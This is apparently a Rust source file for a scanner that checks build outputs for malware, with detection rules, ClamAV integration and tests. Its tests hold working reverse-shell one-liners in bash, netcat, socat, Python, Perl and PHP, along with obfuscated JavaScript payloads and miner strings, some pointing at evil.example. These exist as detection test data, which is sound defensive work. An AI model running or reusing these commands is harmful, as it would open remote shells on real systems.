//! The scanner: one Aho-Corasick pass per file, then the rules that pass need.

use std::fmt;
use std::time::Duration;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use serde::Serialize;

use crate::clamd::{Clamd, ClamdVerdict};
use crate::rules::{self, Compiled, Confidence, Matcher, Needle, Rule};
use crate::{OutputKind, ScanError};

/// Longest excerpt of matched bytes shown in a finding. Short on purpose: it goes to logs, and
/// a full test signature (EICAR) in a log would make the log itself a "virus".
const EXCERPT_MAX: usize = 40;
/// Mode bits of a symbolic link (`S_IFLNK`).
const S_IFMT: u32 = 0o170_000;
const S_IFLNK: u32 = 0o120_000;

/// One entry of the output to scan, as the caller's manifest describes it.
#[derive(Debug, Clone, Default)]
pub struct ScanInput {
    /// Path relative to the output root, `/`-separated.
    pub path: String,
    /// Unix mode bits (file type included when known).
    pub mode: u32,
    /// The link target when the entry is a symbolic link.
    pub symlink_target: Option<String>,
    /// The whole file (empty for links); the caller caps sizes.
    pub data: Vec<u8>,
}

impl ScanInput {
    fn is_symlink(&self) -> bool {
        self.symlink_target.is_some() || self.mode & S_IFMT == S_IFLNK
    }

    fn base_name(&self) -> &str {
        self.path.rsplit('/').next().unwrap_or(&self.path)
    }
}

/// One rule that hit one file.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Finding {
    /// The file, relative to the output root.
    pub path: String,
    /// The rule's id (`clamav` for a ClamAV signature).
    pub rule: String,
    /// The rule's description.
    pub description: String,
    /// High quarantines, low flags.
    pub confidence: Confidence,
    /// What matched, printable and shortened (a signature name for ClamAV).
    pub matched: Option<String>,
}

impl fmt::Display for Finding {
    /// `quarantined: dist/x.js: reverse-shell-devtcp (bash -i >& /dev/tcp/)`: one line for a log.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let action = match self.confidence {
            Confidence::High => "quarantined",
            Confidence::Low => "flagged",
        };
        write!(
            f,
            "{action}: {}: {} ({})",
            printable(self.path.as_bytes(), 200),
            self.rule,
            self.matched.as_deref().unwrap_or(&self.description)
        )
    }
}

/// What happens to the artifact.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    /// No finding.
    Clean,
    /// Only low-confidence findings: released, and shown to a human.
    Flagged,
    /// A high-confidence finding: not released.
    Quarantined,
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Verdict::Clean => "clean",
            Verdict::Flagged => "flagged",
            Verdict::Quarantined => "quarantined",
        })
    }
}

/// The result of scanning one output.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ScanReport {
    /// Every hit, in input order.
    pub findings: Vec<Finding>,
    /// Quarantined if any finding is high, flagged if any is low, else clean.
    pub verdict: Verdict,
    /// Entries scanned (links included).
    pub files: usize,
    /// Bytes of file content scanned.
    pub bytes: u64,
}

#[derive(Debug)]
struct ClamdGate {
    clamd: Clamd,
    wait: Duration,
}

/// The scanning gate. Build once (rule compilation is the expensive part), share freely: it is
/// immutable and `Send + Sync`.
#[derive(Debug)]
pub struct Scanner {
    rules: Vec<Compiled>,
    needles: Vec<Needle>,
    automaton: AhoCorasick,
    clamd: Option<ClamdGate>,
}

impl Scanner {
    /// The built-in rules of `rules.json`.
    pub fn builtin() -> Scanner {
        Scanner::from_rules(rules::parse_rules(rules::BUILTIN).expect("built-in rules are valid"))
            .expect("built-in rules compile")
    }

    /// Only the rules of `json` (a rule file), without the built-in ones.
    pub fn from_json(json: &str) -> Result<Scanner, ScanError> {
        Scanner::from_rules(rules::parse_rules(json)?)
    }

    /// These rules and more from `json`; an id that is already taken is an error.
    pub fn with_extra_rules(self, json: &str) -> Result<Scanner, ScanError> {
        let mut all: Vec<Rule> = self.rules.into_iter().map(|c| c.rule).collect();
        all.extend(rules::parse_rules(json)?);
        let mut scanner = Scanner::from_rules(all)?;
        scanner.clamd = self.clamd;
        Ok(scanner)
    }

    /// Also stream every file to clamd. If the daemon cannot be reached, it is retried with
    /// backoff for up to `wait` per connection before the scan fails with
    /// [`ScanError::Unavailable`].
    pub fn with_clamd(mut self, clamd: Clamd, wait: Duration) -> Scanner {
        self.clamd = Some(ClamdGate { clamd, wait });
        self
    }

    /// The rules in force.
    pub fn rules(&self) -> impl Iterator<Item = &Rule> {
        self.rules.iter().map(|c| &c.rule)
    }

    fn from_rules(rules: Vec<Rule>) -> Result<Scanner, ScanError> {
        let (rules, needles) = rules::compile(rules)?;
        let automaton = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(needles.iter().map(|n| &n.bytes))
            .map_err(|e| ScanError::Rules { rule: None, message: format!("literal automaton: {e}") })?;
        Ok(Scanner { rules, needles, automaton, clamd: None })
    }

    /// Scan every entry of an output of `kind`. Errors only come from external scanners; the
    /// caller must treat an error as "not released".
    pub fn scan(
        &self,
        kind: OutputKind,
        files: &mut dyn Iterator<Item = ScanInput>,
    ) -> Result<ScanReport, ScanError> {
        if let Some(gate) = &self.clamd {
            gate.clamd.wait_ready(gate.wait)?;
        }
        let mut findings = Vec::new();
        let (mut count, mut bytes) = (0usize, 0u64);
        for input in files {
            count += 1;
            bytes += input.data.len() as u64;
            self.scan_one(kind, &input, &mut findings);
            if let Some(gate) = &self.clamd {
                if !input.is_symlink() {
                    if let ClamdVerdict::Found(name) =
                        gate.clamd.scan_with_wait(&input.path, &input.data, gate.wait)?
                    {
                        findings.push(Finding {
                            path: input.path.clone(),
                            rule: "clamav".into(),
                            description: "ClamAV signature".into(),
                            confidence: Confidence::High,
                            matched: Some(printable(name.as_bytes(), 120)),
                        });
                    }
                }
            }
        }
        let verdict = match findings.iter().map(|f| f.confidence).max() {
            None => Verdict::Clean,
            Some(Confidence::Low) => Verdict::Flagged,
            Some(Confidence::High) => Verdict::Quarantined,
        };
        Ok(ScanReport { findings, verdict, files: count, bytes })
    }

    fn scan_one(&self, kind: OutputKind, input: &ScanInput, findings: &mut Vec<Finding>) {
        let symlink = input.is_symlink();
        let applicable: Vec<&Compiled> = self
            .rules
            .iter()
            .filter(|c| c.rule.applies_to.contains(&kind))
            .filter(|c| {
                c.rule.extensions.is_empty()
                    || c.rule.extensions.iter().any(|e| input.path.ends_with(e.as_str()))
            })
            .collect();
        if applicable.is_empty() {
            return;
        }
        // First occurrence of each needle, from one pass over the file.
        let mut first: Vec<Option<(usize, usize)>> = vec![None; self.needles.len()];
        if !symlink && !input.data.is_empty() {
            let mut left = self.needles.len();
            for m in self.automaton.find_overlapping_iter(&input.data) {
                let i = m.pattern().as_usize();
                if first[i].is_some() {
                    continue;
                }
                let needle = &self.needles[i];
                if needle.case_sensitive && input.data[m.range()] != needle.bytes[..] {
                    continue;
                }
                first[i] = Some((m.start(), m.end()));
                left -= 1;
                if left == 0 {
                    break;
                }
            }
        }
        for c in applicable {
            let matched = match &c.matcher {
                Matcher::Symlink => symlink.then(|| {
                    let target = input.symlink_target.as_deref().unwrap_or("?");
                    format!("-> {}", printable(target.as_bytes(), 200))
                }),
                Matcher::Filename { names, ignore_case } => {
                    let base = input.base_name();
                    let hit = if *ignore_case {
                        names.contains(&base.to_ascii_lowercase())
                    } else {
                        names.iter().any(|n| n == base)
                    };
                    hit.then(|| printable(base.as_bytes(), EXCERPT_MAX))
                }
                _ if symlink => None,
                Matcher::Literal(ids) => {
                    ids.iter().find_map(|&i| first[i]).map(|(s, e)| printable(&input.data[s..e], EXCERPT_MAX))
                }
                Matcher::Regex { prefilter, max_size, min_matches, regexes } => {
                    let run = if prefilter.is_empty() {
                        input.data.len() as u64 <= *max_size
                    } else {
                        prefilter.iter().any(|&i| first[i].is_some())
                    };
                    if run {
                        regexes.iter().find_map(|re| {
                            let mut it = re.find_iter(&input.data);
                            let hit = it.next()?;
                            let more = it.take(min_matches - 1).count();
                            (1 + more >= *min_matches).then(|| {
                                let text = printable(hit.as_bytes(), EXCERPT_MAX);
                                if *min_matches > 1 {
                                    format!("{text} and {more} more")
                                } else {
                                    text
                                }
                            })
                        })
                    } else {
                        None
                    }
                }
                Matcher::Magic(magics) => magics.iter().find_map(|m| m.check(&input.data)),
                Matcher::Entropy { min_line_length, min_entropy } => input
                    .data
                    .split(|&b| b == b'\n')
                    .enumerate()
                    .filter(|(_, line)| line.len() >= *min_line_length)
                    .find_map(|(n, line)| {
                        let bits = rules::entropy(line);
                        (bits >= *min_entropy)
                            .then(|| format!("line {}: {} bytes at {bits:.2} bits/byte", n + 1, line.len()))
                    }),
            };
            if let Some(matched) = matched {
                findings.push(Finding {
                    path: input.path.clone(),
                    rule: c.rule.id.clone(),
                    description: c.rule.description.clone(),
                    confidence: c.rule.confidence,
                    matched: Some(matched),
                });
            }
        }
    }
}

/// Bytes as one printable line: ASCII graphic characters and spaces kept, everything else as
/// `\xNN`; cut at `max` characters with `…`. Findings go to logs and terminals, so a file's
/// bytes must not carry control sequences there.
pub(crate) fn printable(bytes: &[u8], max: usize) -> String {
    let mut out = String::new();
    for &b in bytes {
        if out.len() >= max {
            out.push('…');
            break;
        }
        if b == b' ' || b.is_ascii_graphic() {
            out.push(b as char);
        } else {
            out.push_str(&format!("\\x{b:02x}"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The EICAR string, assembled at run time so this source and the test binary do not
    /// contain it whole.
    pub(crate) fn eicar() -> Vec<u8> {
        let tail: String = "*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$".chars().rev().collect();
        format!("X5O!P%@AP[4\\PZX54(P^)7CC)7}}{tail}").into_bytes()
    }

    fn file(path: &str, data: impl Into<Vec<u8>>) -> ScanInput {
        ScanInput { path: path.into(), mode: 0o100_644, symlink_target: None, data: data.into() }
    }

    /// One compiled scanner for all tests (compiling the rules is the slow part in debug builds).
    fn builtin() -> &'static Scanner {
        static SCANNER: std::sync::OnceLock<Scanner> = std::sync::OnceLock::new();
        SCANNER.get_or_init(Scanner::builtin)
    }

    fn scan(kind: OutputKind, inputs: Vec<ScanInput>) -> ScanReport {
        builtin().scan(kind, &mut inputs.into_iter()).unwrap()
    }

    /// The rule ids that hit one file.
    fn hits(kind: OutputKind, path: &str, data: impl Into<Vec<u8>>) -> Vec<String> {
        scan(kind, vec![file(path, data)]).findings.into_iter().map(|f| f.rule).collect()
    }

    fn assert_hit(rule: &str, kind: OutputKind, path: &str, data: impl Into<Vec<u8>>) {
        let data = data.into();
        let got = hits(kind, path, data.clone());
        assert!(
            got.iter().any(|r| r == rule),
            "{rule} should hit {path}: {:?} (got {got:?})",
            printable(&data, 200)
        );
    }

    fn assert_no_hit(rule: &str, kind: OutputKind, path: &str, data: impl Into<Vec<u8>>) {
        let data = data.into();
        let got = hits(kind, path, data.clone());
        assert!(!got.iter().any(|r| r == rule), "{rule} should not hit {path}: {:?}", printable(&data, 200));
    }

    /// A realistic minified bundle, written for these tests: short names, `\x` in a regex
    /// class, a hex literal, `String.fromCharCode` with one argument, a small inlined image.
    fn minified_bundle() -> String {
        let chunk = concat!(
            r#"(()=>{"use strict";var e={},t=Object.defineProperty,n=(e,n,r)=>n in e?t(e,n,{enumerable:!0,"#,
            r#"configurable:!0,writable:!0,value:r}):e[n]=r;function r(e){return e.replace(/[\x00-\x1f\x7f]/g,"")}"#,
            r##"const o=0x1f,a=e=>String.fromCharCode(e+o),i=document.querySelector("#app");class s{constructor(e){"##,
            r#"this.state={count:0,items:[]},this.el=e}render(){const{count:e,items:t}=this.state;this.el.innerHTML="#,
            r#"`<button class="btn">${e}</button><ul>${t.map(e=>`<li>${r(e.title)}</li>`).join("")}</ul>`}"#,
            r#"async load(){try{const e=await fetch("/api/items?limit=20",{headers:{Accept:"application/json"}});"#,
            r#"if(!e.ok)throw new Error(`HTTP ${e.status}`);this.state.items=(await e.json()).items,this.render()}"#,
            r#"catch(e){console.error("load failed",e)}}}const l="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";"#,
            r#"i&&(new s(i).load(),i.addEventListener("click",e=>{e.target.closest(".btn")&&n(e,"handled",a(2))}),"#,
            r#"window.__APP__={version:"1.4.2",logo:l});"#,
        );
        // Bundlers emit one very long line: repeat the module body with different names.
        (0..40).map(|i| chunk.replace("e.title", &format!("e.t{i}"))).collect::<Vec<_>>().join("")
    }

    #[test]
    fn clean_output_is_clean() {
        let report = scan(
            OutputKind::Static,
            vec![file("index.html", "<!doctype html><p>hello</p>"), file("assets/app.js", minified_bundle())],
        );
        assert_eq!(report.verdict, Verdict::Clean, "{:?}", report.findings);
        assert_eq!(report.files, 2);
    }

    #[test]
    fn minified_bundle_hits_no_js_rule() {
        let bundle = minified_bundle();
        assert!(bundle.len() > 20_000 && !bundle.contains('\n'));
        let bits = rules::entropy(bundle.as_bytes());
        assert!(bits < 5.7, "bundle entropy {bits}");
        assert!(hits(OutputKind::Static, "assets/index-4f2a.js", bundle).is_empty());
    }

    #[test]
    fn eicar_rule() {
        assert_hit("eicar", OutputKind::Server, "a/test.txt", [b"prefix ".as_slice(), &eicar()].concat());
        let mut broken = eicar();
        broken[3] = b'?';
        assert_no_hit("eicar", OutputKind::Server, "a/test.txt", broken);
    }

    #[test]
    fn reverse_shell_devtcp() {
        for s in [
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "/bin/sh -i > /dev/udp/evil.example/53 0<&1 2>&1",
            "exec 5<>/dev/tcp/evil.example/80; sh -i <&5 >&5 2>&5",
        ] {
            assert_hit("reverse-shell-devtcp", OutputKind::Function, "run.sh", s);
        }
        for s in [
            "exec 3<>/dev/tcp/localhost/8080 && echo ok # health check",
            "ssh -i key.pem host; cat /dev/tcp/x",
            "bash -i\n\n\n/dev/tcp/ is a bash feature",
        ] {
            assert_no_hit("reverse-shell-devtcp", OutputKind::Function, "run.sh", s);
        }
    }

    #[test]
    fn reverse_shell_netcat() {
        for s in [
            "nc -e /bin/sh 10.0.0.1 4242",
            "nc 10.0.0.1 4242 -e /bin/bash",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
            "ncat 10.0.0.1 4242 --exec /bin/sh",
            "socat tcp-connect:10.0.0.1:4242 EXEC:'bash -li',pty,stderr",
        ] {
            assert_hit("reverse-shell-netcat", OutputKind::Server, "x.sh", s);
        }
        for s in [
            "nc -z localhost 5432 && /bin/sh ./migrate.sh",
            "socat TCP-LISTEN:8080,fork TCP:backend:80",
            "ncat --version",
            "#!/bin/sh\necho sync -e done",
        ] {
            assert_no_hit("reverse-shell-netcat", OutputKind::Server, "x.sh", s);
        }
    }

    #[test]
    fn reverse_shell_python() {
        let pty = "import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")";
        let sub = "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.0.0.1',1234))\nos.dup2(s.fileno(),0)\np=subprocess.call([\"/bin/sh\",\"-i\"])";
        assert_hit("reverse-shell-python", OutputKind::Function, "app.py", pty);
        assert_hit("reverse-shell-python", OutputKind::Function, "app.py", sub);
        let server = "s = socket.socket()\ns.bind(('0.0.0.0', 8000))\nsubprocess.call(['ls', '-l'])\n# spawn a shell with /bin/sh later";
        assert_no_hit("reverse-shell-python", OutputKind::Function, "app.py", server);
        assert_no_hit(
            "reverse-shell-python",
            OutputKind::Function,
            "app.py",
            "import pty\npty.spawn('/bin/bash')  # a local terminal",
        );
    }

    #[test]
    fn reverse_shell_perl() {
        let perl = r#"use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};"#;
        assert_hit("reverse-shell-perl", OutputKind::Server, "x.pl", perl);
        let server = r#"socket(my $s, PF_INET, SOCK_STREAM, 0) or die; bind($s, $addr); listen($s, 5); exec("/usr/bin/env", "true");"#;
        assert_no_hit("reverse-shell-perl", OutputKind::Server, "x.pl", server);
    }

    #[test]
    fn reverse_shell_php() {
        let php = r#"<?php $sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3"); ?>"#;
        assert_hit("reverse-shell-php", OutputKind::Server, "x.php", php);
        assert_hit(
            "reverse-shell-php",
            OutputKind::Server,
            "x.php",
            r#"$s=fsockopen("h",1);proc_open('sh', $d, $p);"#,
        );
        let ok = r#"<?php $fp = fsockopen("www.example.com", 80); fwrite($fp, "GET / HTTP/1.0\r\n\r\n"); exec("ls");"#;
        assert_no_hit("reverse-shell-php", OutputKind::Server, "x.php", ok);
    }

    #[test]
    fn crypto_miner() {
        for s in [
            "pool: stratum+tcp://pool.example:3333",
            "STRATUM+SSL://p:1",
            "./XMRig --donate-level 1",
            "new CoinHive.Anonymous('k')",
            "algo: cryptonight",
        ] {
            assert_hit("crypto-miner", OutputKind::Static, "m.txt", s);
        }
        assert_no_hit(
            "crypto-miner",
            OutputKind::Static,
            "m.txt",
            "stratum is a layer of rock; coin hive; crypto night",
        );
    }

    #[test]
    fn executables_only_matter_in_static_outputs() {
        let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
        assert_hit("executable-in-static", OutputKind::Static, "assets/logo.png", elf.clone());
        assert_no_hit("executable-in-static", OutputKind::Server, "bin/server", elf.clone());
        assert_no_hit("executable-in-static", OutputKind::Function, "bootstrap", elf);
        assert_no_hit("executable-in-static", OutputKind::Static, "readme.txt", "an ELF is a creature; MZ");
        let mut macho = vec![0xcf, 0xfa, 0xed, 0xfe];
        macho.extend_from_slice(&[0; 12]);
        assert_hit("executable-in-static", OutputKind::Static, "tool", macho);
        let report = scan(OutputKind::Static, vec![file("a.exe", b"\x7fELF".to_vec())]);
        assert_eq!(report.verdict, Verdict::Quarantined);
    }

    #[test]
    fn js_eval_atob() {
        assert_hit("js-eval-atob", OutputKind::Static, "a.js", "var x=1;eval(atob('YWxlcnQoMSk='))");
        assert_hit("js-eval-atob", OutputKind::Static, "a.mjs", "eval ( window.atob(p) )");
        assert_no_hit("js-eval-atob", OutputKind::Static, "a.js", "const s=atob(data);JSON.parse(s)");
        // Only JavaScript files.
        assert_no_hit("js-eval-atob", OutputKind::Static, "a.txt", "eval(atob('YWxlcnQoMSk='))");
    }

    #[test]
    fn js_packer() {
        let packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}}return p}('0 1',2,2,'alert|hi'.split('|'),0,{}))";
        assert_hit("js-packer", OutputKind::Static, "p.js", packed);
        assert_no_hit("js-packer", OutputKind::Static, "p.js", "function pack(p,a,c,k,e,d){return p+a}");
    }

    #[test]
    fn js_hex_escapes() {
        let payload: String = "document.write('<script src=//evil.example/x.js></script>');alert(1)"
            .bytes()
            .map(|b| format!("\\x{b:02x}"))
            .collect();
        assert_hit("js-hex-escapes", OutputKind::Static, "h.cjs", format!("var s=\"{payload}\";"));
        let few: String = (0..63).map(|_| "\\x41").collect();
        assert_no_hit(
            "js-hex-escapes",
            OutputKind::Static,
            "h.cjs",
            format!("var s=\"{few}\";/[\\x00-\\x1f]/"),
        );
    }

    #[test]
    fn js_hex_identifiers() {
        let obf: String =
            (0..40).map(|i| format!("var _0x{:04x}=_0x{:04x}+{i};", 0x1a2b + i, 0x3c4d + i)).collect();
        assert_hit("js-hex-identifiers", OutputKind::Static, "o.js", obf);
        let few: String =
            (0..14).map(|i| format!("var _0x{:04x}=_0x{:04x};", 0x1a2b + i, 0x3c4d + i)).collect();
        assert_no_hit("js-hex-identifiers", OutputKind::Static, "o.js", few);
        let report = scan(
            OutputKind::Static,
            vec![file("o.js", (0..40).map(|i| format!("_0x{:04x};", 0xabc0 + i)).collect::<String>())],
        );
        assert_eq!(report.verdict, Verdict::Flagged);
    }

    #[test]
    fn js_fromcharcode() {
        let codes: Vec<String> = "alert(document.cookie)".bytes().map(|b| b.to_string()).collect();
        assert_hit(
            "js-fromcharcode",
            OutputKind::Static,
            "f.js",
            format!("eval(String.fromCharCode({}))", codes.join(",")),
        );
        let hex: Vec<String> = "fetch('//evil.example')".bytes().map(|b| format!("0x{b:x}")).collect();
        assert_hit(
            "js-fromcharcode",
            OutputKind::Static,
            "f.js",
            format!("String.fromCharCode( {} )", hex.join(", ")),
        );
        assert_no_hit(
            "js-fromcharcode",
            OutputKind::Static,
            "f.js",
            "String.fromCharCode(72,105,33);String.fromCharCode.apply(null,a)",
        );
    }

    #[test]
    fn js_high_entropy_line() {
        // Deterministic pseudo-random bytes, base64-encoded: what an encrypted payload looks like.
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        let raw: Vec<u8> = (0..6000)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                (x >> 24) as u8
            })
            .collect();
        let b64 = base64ish(&raw);
        assert_hit("js-high-entropy-line", OutputKind::Static, "e.js", format!("var k=\"{b64}\";run(k)"));
        // The same payload split into short lines is not one long line.
        let short: Vec<&str> =
            (0..b64.len()).step_by(1000).map(|i| &b64[i..(i + 1000).min(b64.len())]).collect();
        assert_no_hit("js-high-entropy-line", OutputKind::Static, "e.js", short.join("\n"));
        assert_no_hit("js-high-entropy-line", OutputKind::Static, "e.js", minified_bundle());
    }

    fn base64ish(raw: &[u8]) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        raw.chunks(3)
            .flat_map(|c| {
                let n = (c[0] as u32) << 16
                    | (*c.get(1).unwrap_or(&0) as u32) << 8
                    | *c.get(2).unwrap_or(&0) as u32;
                [18, 12, 6, 0].map(|s| ALPHABET[(n >> s & 63) as usize] as char)
            })
            .collect()
    }

    #[test]
    fn deploy_config_override() {
        for p in [
            "vercel.json",
            "sub/dir/.htaccess",
            "NETLIFY.TOML",
            "_redirects",
            "docs/web.config",
            ".platform.app.yaml",
        ] {
            assert_hit("deploy-config-override", OutputKind::Static, p, "{}");
        }
        assert_no_hit("deploy-config-override", OutputKind::Static, "my-vercel.json", "{}");
        assert_no_hit("deploy-config-override", OutputKind::Static, "headers.txt", "{}");
        assert_no_hit("deploy-config-override", OutputKind::Server, "vercel.json", "{}");
    }

    #[test]
    fn symlinks_in_static_outputs() {
        let link = ScanInput {
            path: "a/link".into(),
            mode: 0o120_777,
            symlink_target: Some("../../etc/passwd".into()),
            data: vec![],
        };
        let report = scan(OutputKind::Static, vec![link.clone()]);
        assert_eq!(report.verdict, Verdict::Flagged);
        assert_eq!(
            report.findings[0].to_string(),
            "flagged: a/link: symlink-in-static (-> ../../etc/passwd)"
        );
        // Mode bits alone mark a link too.
        let by_mode = ScanInput { symlink_target: None, ..link.clone() };
        assert_eq!(scan(OutputKind::Static, vec![by_mode]).verdict, Verdict::Flagged);
        assert_eq!(scan(OutputKind::Server, vec![link]).verdict, Verdict::Clean);
        assert_no_hit("symlink-in-static", OutputKind::Static, "a/file", "x");
    }

    #[test]
    fn finding_display_is_one_printable_line() {
        let report = scan(
            OutputKind::Static,
            vec![file("dist/x\u{1b}[2J.js", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")],
        );
        assert_eq!(report.verdict, Verdict::Quarantined);
        let line = report.findings[0].to_string();
        assert_eq!(line, "quarantined: dist/x\\x1b[2J.js: reverse-shell-devtcp (bash -i >& /dev/tcp/)");
        // EICAR is never printed whole.
        let report = scan(OutputKind::Static, vec![file("e.txt", eicar())]);
        assert!(!report.findings[0].to_string().contains("EICAR-STANDARD-ANTIVIRUS-TEST-FILE"));
    }

    #[test]
    fn extra_rules_extend_the_builtin_set() {
        let extra = r#"{"rules": [{"id": "corp-secret-marker", "description": "internal build marker", "confidence": "low",
            "kind": "literal", "patterns": ["INTERNAL-ONLY"], "applies_to": ["server"]}]}"#;
        let scanner = Scanner::builtin().with_extra_rules(extra).unwrap();
        let report =
            scanner.scan(OutputKind::Server, &mut vec![file("a", "x INTERNAL-ONLY y")].into_iter()).unwrap();
        assert_eq!(report.verdict, Verdict::Flagged);
        let report =
            scanner.scan(OutputKind::Static, &mut vec![file("a", "x INTERNAL-ONLY y")].into_iter()).unwrap();
        assert_eq!(report.verdict, Verdict::Clean);
        // Case-sensitive literals stay case-sensitive in the shared case-insensitive automaton.
        let report =
            scanner.scan(OutputKind::Server, &mut vec![file("a", "internal-only")].into_iter()).unwrap();
        assert_eq!(report.verdict, Verdict::Clean);
        let clash = r#"{"rules": [{"id": "eicar", "description": "d", "confidence": "low", "kind": "literal", "patterns": ["x"]}]}"#;
        assert!(Scanner::builtin().with_extra_rules(clash).is_err());
    }

    #[test]
    fn regex_without_prefilter_respects_max_size() {
        let rules = r#"{"rules": [{"id": "big", "description": "d", "confidence": "low", "kind": "regex",
            "patterns": ["needle[0-9]"], "max_size": 16}]}"#;
        let scanner = Scanner::from_json(rules).unwrap();
        let small = scanner.scan(OutputKind::Static, &mut vec![file("a", "needle1")].into_iter()).unwrap();
        assert_eq!(small.verdict, Verdict::Flagged);
        let large = scanner
            .scan(OutputKind::Static, &mut vec![file("a", "needle1 plus more than 16 bytes")].into_iter())
            .unwrap();
        assert_eq!(large.verdict, Verdict::Clean);
    }

    #[test]
    fn worst_finding_decides_the_verdict() {
        let report = scan(
            OutputKind::Static,
            vec![file("vercel.json", "{}"), file("x.sh", "nc -e /bin/sh 10.0.0.1 1"), file("ok.txt", "fine")],
        );
        assert_eq!(report.verdict, Verdict::Quarantined);
        assert_eq!(report.findings.len(), 2);
    }
}
